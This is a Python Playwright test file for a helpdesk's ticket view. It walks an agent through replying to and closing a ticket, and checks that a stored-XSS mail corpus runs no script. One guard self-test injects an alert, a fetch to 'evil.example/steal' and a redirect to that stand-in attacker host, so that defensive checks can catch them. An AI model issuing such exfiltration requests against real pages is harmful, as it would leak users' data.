"""The ticket zoom in headless Chromium: an agent's day on one ticket, and the stored-XSS
corpus executing nothing in zoom, queue view and search (both engines).

The guard fails a test on any dialog, console message, page error, request to an address
other than the test server's, or navigation of the page away from it; requests elsewhere are
also aborted, so a page that tried would not even reach the network.
"""

from __future__ import annotations

import re
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page, Route

from pytrs.config import Config
from pytrs.schema.database import Database

from ...helpers import articles, history, tickets
from ...servers.relay import RecordingRelay
from ..xss import hostile_mails
from ..zoom_support import (
    SIGNATURE,
    deliver,
    deliver_many,
    follow_up,
    provision_desk,
    realistic_mail,
    send_outbox,
    zoom_config,
)

SCREENSHOTS = Path(__file__).resolve().parents[3] / "docs" / "screenshots"


@pytest.fixture
def config(database_settings: dict[str, Any], relay: RecordingRelay) -> Config:
    return zoom_config(database_settings, relay.address)


@pytest.fixture(autouse=True)
async def provisioned(db: Database, config: Config) -> None:
    await provision_desk(db, config)


class Guard:
    """Everything a page did that a page showing mail must never do."""

    def __init__(self, page: Page, base_url: str) -> None:
        self.base = base_url.rstrip("/")
        self.problems: list[str] = []
        self.page = page
        page.on("dialog", self._dialog)
        page.on("console", lambda m: self.problems.append(f"console {m.type}: {m.text}"))
        page.on("pageerror", lambda e: self.problems.append(f"page error: {e}"))
        page.on("framenavigated", self._navigated)

    async def install(self) -> None:
        await self.page.route("**/*", self._request)

    def _local(self, url: str) -> bool:
        return (
            url == self.base
            or url.startswith(self.base + "/")
            or url.startswith(("data:", "about:"))
        )

    def _dialog(self, dialog: Any) -> None:
        # Recorded only: the `page` fixture dismisses every dialog (and fails on it too).
        self.problems.append(f"dialog {dialog.type}: {dialog.message}")

    def _navigated(self, frame: Any) -> None:
        if frame == self.page.main_frame and not self._local(frame.url):
            self.problems.append(f"navigated to {frame.url}")
        elif frame != self.page.main_frame and frame.url not in ("about:srcdoc", "about:blank"):
            self.problems.append(f"a frame navigated to {frame.url}")

    async def _request(self, route: Route) -> None:
        if self._local(route.request.url):
            await route.continue_()
        else:
            self.problems.append(f"request to {route.request.url}")
            await route.abort()


async def test_an_agent_answers_notes_and_closes(
    page: Page, live_server: Any, make_user: Callable[..., Awaitable[int]], browser_login: Any,
    db: Database, config: Config, relay: RecordingRelay,
) -> None:  # fmt: skip
    await deliver(config, db, realistic_mail())
    [ticket] = await tickets(db)
    tn = ticket["tn"]
    await deliver(config, db, follow_up(tn, "It is getting worse: smoke on floor 3.\n"))
    await make_user("jdoe", queues={"Support": "rw"})
    guard = Guard(page, live_server.url)
    await guard.install()
    await browser_login(page, live_server, "jdoe")
    await page.goto(f"{live_server.url}/tickets/{tn}")
    await page.wait_for_load_state("networkidle")
    assert await page.locator(".article").count() == 2
    frame = page.frame_locator("iframe.mail-frame").first
    assert await frame.locator("b").inner_text() == "floor 3"
    await page.click("a.button.primary:has-text('Reply')")
    await page.fill("textarea[name=body]", "A technician is on the way.")
    await page.set_input_files(
        "input[name=attachments]",
        files=[{"name": "checklist.txt", "mimeType": "text/plain", "buffer": b"1. unplug\n"}],
    )
    await page.click("button:has-text('Send')")
    await page.wait_for_url(re.compile(rf"/tickets/{tn}$"))
    assert "Answer queued to alice@customer.example" in await page.inner_text(".flashes")
    await send_outbox(config, db)
    [got] = relay.received
    assert list(got.rcpt_tos) == ["alice@customer.example"]
    assert f"[Ticket#{tn}]".encode() in got.data and b"checklist.txt" in got.data
    assert SIGNATURE.split("\n")[0].encode() in got.data

    await page.fill(".ticket-actions textarea[name=body]", "Called Alice: the fire is out.")
    await page.click("button:has-text('Add note')")
    await page.wait_for_url(re.compile(rf"/tickets/{tn}$"))
    assert "Note added." in await page.inner_text(".flashes")

    # The pending time shows only for a pending state (CSS alone: the page runs no script).
    pending = page.locator(".ticket-actions .pending-field")
    assert not await pending.is_visible()
    await page.select_option(".ticket-actions select[name=state]", "pending reminder")
    assert await pending.is_visible()
    await page.fill(".ticket-actions input[name=pending]", "2099-01-04T09:00")
    await page.click("button:has-text('Save changes')")
    await page.wait_for_url(re.compile(rf"/tickets/{tn}$"))
    assert await page.inner_text(".field-pending") == "2099-01-04 09:00 CET"

    await page.select_option(".ticket-actions select[name=state]", "closed successful")
    assert not await pending.is_visible()
    await page.click("button:has-text('Save changes')")
    await page.wait_for_url(re.compile(rf"/tickets/{tn}$"))
    assert "closed successful" in await page.inner_text(".field-state")
    [ticket] = await tickets(db)
    assert ticket["state"] == "closed successful"
    bodies = [a["a_body"] for a in await articles(db, ticket["id"])]
    assert bodies[-1] == "Called Alice: the fire is out."
    assert ("StateUpdate", "%%pending reminder%%closed successful%%") in await history(
        db, ticket["id"]
    )
    # The screenshot the README shows: an HTML mail with attachments, a follow-up, the
    # answer and the note.
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    await page.screenshot(path=str(SCREENSHOTS / "ticket-zoom.png"), full_page=True)
    assert guard.problems == []


async def test_the_xss_corpus_executes_nothing(
    page: Page, live_server: Any, make_user: Callable[..., Awaitable[int]], db: Database,
    config: Config, browser_login: Any,
) -> None:  # fmt: skip
    await deliver_many(config, db, [raw for _name, raw in hostile_mails()])
    numbers = [t["tn"] for t in await tickets(db)]
    assert len(numbers) == len(hostile_mails())
    await make_user("boss", role="admin", queues={})
    guard = Guard(page, live_server.url)
    await guard.install()
    await browser_login(page, live_server, "boss")
    for tn in numbers:
        await page.goto(f"{live_server.url}/tickets/{tn}")
        await page.wait_for_load_state("networkidle")
        # Open every <details> (traces, plain text, history), as a curious agent would.
        for details in await page.locator("details").all():
            await details.evaluate("d => d.open = true")
        assert guard.problems == [], (tn, guard.problems)
        assert page.url.startswith(f"{live_server.url}/tickets/{tn}")
        # The reply form quotes the mail and repeats its subject.
        await page.goto(f"{live_server.url}/tickets/{tn}/reply")
        await page.wait_for_load_state("networkidle")
        assert guard.problems == [], (tn, guard.problems)
    # The lists show the same subjects, senders and snippets.
    for path in ("/?view=all", "/search?q=evil", "/search?q=alert", "/search?q=script"):
        await page.goto(f"{live_server.url}{path}")
        await page.wait_for_load_state("networkidle")
        assert guard.problems == [], (path, guard.problems)
        assert await page.locator("a[href^='/tickets/']").count() > 0, path


async def test_the_guard_sees_what_it_guards_against(page: Page, live_server: Any) -> None:
    guard = Guard(page, live_server.url)
    await guard.install()
    await page.goto(f"{live_server.url}/login")
    await page.evaluate("alert('x')")
    await page.evaluate("console.log('hello')")
    await page.evaluate("fetch('http://evil.example/steal').catch(() => null)")
    await page.evaluate("location.href = 'http://evil.example/'")
    await page.wait_for_timeout(300)
    seen = " | ".join(guard.problems)
    # The site's CSP stops the fetch before it leaves (and says so on the console); the
    # navigation is a request the guard aborts.
    for wanted in ("dialog alert: x", "console log: hello",
                   "console error: Connecting to 'http://evil.example/steal' violates",
                   "request to http://evil.example/", "navigated to "):  # fmt: skip
        assert wanted in seen, seen
    page.problems.clear()  # type: ignore[attr-defined]  # expected here, not a failure
